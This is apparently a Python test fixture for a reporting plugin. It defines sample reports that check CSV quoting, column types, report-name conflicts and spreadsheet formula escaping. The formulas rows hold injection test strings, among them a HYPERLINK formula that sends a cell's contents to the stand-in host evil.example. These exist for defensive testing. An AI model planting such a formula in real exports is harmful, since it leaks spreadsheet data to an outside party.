"""A plugin that is not stock and contributes reports (used by test_registry).

Enabled in tests as the dotted module ``plinth_reporting.tests.sample_reports``.
"""

from __future__ import annotations

from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

from sqlalchemy import (
    BigInteger,
    Date,
    DateTime,
    Integer,
    Numeric,
    String,
    func,
    literal,
    select,
    union_all,
)

from plinth.api import AuditEntry

requires: tuple[str, ...] = ("reporting",)

audit_log = AuditEntry.__table__

# Rows of the "literals" report: every column type, and text that CSV must quote.
LITERAL_ROWS = [
    ("plain", 1, Decimal("1.5"), date(2024, 2, 29), datetime(2024, 2, 29, 12, 30, tzinfo=UTC)),
    (
        'comma, "quote"\nand a line',
        -7,
        Decimal("0.1"),
        date(1999, 12, 31),
        datetime(1999, 12, 31, 23, 59, 59, tzinfo=UTC),
    ),
    ("héllo ✓", 2**40, Decimal("12345.675"), None, None),
]


def audit_activity(db: Any, params: dict[str, Any]) -> Any:
    """Audit entries per kind (a report over the core's audit log)."""
    a = audit_log
    stmt = select(a.c.kind, func.count().label("entries")).group_by(a.c.kind).order_by(a.c.kind)
    if params["kind"] is not None:
        stmt = stmt.where(a.c.kind == params["kind"])
    return stmt


def literals(db: Any, params: dict[str, Any]) -> Any:
    """Literal rows, filtered by ``min_n`` (a report over no table at all)."""
    selects = [
        select(
            literal(text, String()).label("text"),
            literal(n, BigInteger()).label("n"),
            literal(price, Numeric(14, 4)).label("price"),
            literal(day, Date()).label("day"),
            literal(moment, DateTime(timezone=True)).label("moment"),
            literal(position, Integer()).label("position"),
        )
        for position, (text, n, price, day, moment) in enumerate(LITERAL_ROWS)
    ]
    rows = union_all(*selects).subquery("rows")
    stmt = select(rows).order_by(rows.c.position)
    if params["min_n"] is not None:
        stmt = stmt.where(rows.c.n >= params["min_n"])
    return stmt


# Rows of the "formulas" report: text a spreadsheet would run, next to
# negative numbers that must stay numbers.
FORMULA_ROWS = [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', -5, Decimal("-2.50")),
    ("+1+1", -1, Decimal("-0.01")),
    ("-2+3", 0, Decimal(0)),
    ("@SUM(A1:A2)", 3, Decimal("1.25")),
    ("\tcmd", -(2**40), Decimal("-99999999.99")),
    ("\rcmd", 7, Decimal(7)),
    ("a=b, -c", 8, Decimal(8)),
    ("", 9, Decimal(9)),
]


def formulas(db: Any, params: dict[str, Any]) -> Any:
    """Text that looks like formulas, with negative numbers beside it."""
    selects = [
        select(
            literal(text, String()).label("text"),
            literal(n, BigInteger()).label("n"),
            literal(price, Numeric(14, 2)).label("price"),
            literal(position, Integer()).label("position"),
        )
        for position, (text, n, price) in enumerate(FORMULA_ROWS)
    ]
    rows = union_all(*selects).subquery("rows")
    return select(rows).order_by(rows.c.position)


def includeme(config: Any) -> None:
    config.add_report(
        "formulas",
        formulas,
        title="Formulas",
        columns=[
            ("text", "string"),
            ("n", "integer"),
            {"name": "price", "type": "decimal", "scale": 2},
        ],
    )
    config.add_report(
        "audit-activity",
        audit_activity,
        title="Audit activity",
        description="Audit log entries per kind",
        parameters=[{"name": "kind", "type": "string", "maxLength": 60}],
        columns=[("kind", "string"), ("entries", "integer")],
    )
    config.add_report(
        "literals",
        "plinth_reporting.tests.sample_reports.literals",
        title="Literals",
        parameters=[{"name": "min_n", "type": "integer", "minimum": -100}],
        columns=[
            ("text", "string"),
            ("n", "integer"),
            {"name": "price", "type": "decimal", "scale": 2},
            ("day", "date"),
            ("moment", "datetime"),
        ],
    )


def claim_low_stock(config: Any) -> None:
    """An include that claims a name stock already uses: a conflict."""
    config.add_report(
        "low-stock",
        literals,
        title="Not stock's",
        parameters=[{"name": "min_n", "type": "integer"}],
        columns=[("text", "string")],
    )
